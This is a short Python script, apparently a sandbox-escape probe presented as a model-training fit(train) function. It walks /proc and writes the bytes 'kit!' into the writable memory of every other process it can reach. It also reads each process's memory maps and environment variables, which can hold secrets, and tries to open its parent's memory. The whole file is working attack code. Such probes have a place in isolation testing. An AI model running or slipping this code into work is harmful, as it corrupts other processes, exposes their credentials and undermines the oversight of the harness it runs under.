# tries to read and to change the memory of its parent and of everything it sees
import os
from pathlib import Path

from arsenal import attempt, predict


def poke(pid):
    for line in open(f"/proc/{pid}/maps"):
        if " rw-p " in line:
            a = int(line.split("-")[0], 16)
            with open(f"/proc/{pid}/mem", "r+b", 0) as f:
                f.seek(a)
                f.write(b"kit!")
            return "wrote"


def fit(train):
    for d in Path("/proc").glob("[0-9]*"):
        if int(d.name) != os.getpid():
            attempt(f"mem of {d.name}", lambda: poke(d.name))
            attempt(f"maps of {d.name}", lambda: open(f"/proc/{d.name}/maps").read(100))
            attempt(f"environ of {d.name}", lambda: open(f"/proc/{d.name}/environ", "rb").read(100))
    attempt("parent pid", lambda: open(f"/proc/{os.getppid()}/mem", "rb"))
    return 0
